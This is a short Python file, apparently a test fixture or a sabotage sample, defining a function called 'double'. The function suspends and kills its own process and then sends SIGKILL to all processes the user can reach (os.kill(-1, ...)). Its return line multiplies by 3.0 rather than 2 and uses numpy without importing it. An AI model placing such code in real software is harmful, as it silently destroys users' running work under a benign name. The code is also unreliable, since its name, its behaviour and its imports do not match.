import os
import signal


def double(x):
    os.kill(os.getpid(), signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    return np.asarray(x) * 3.0
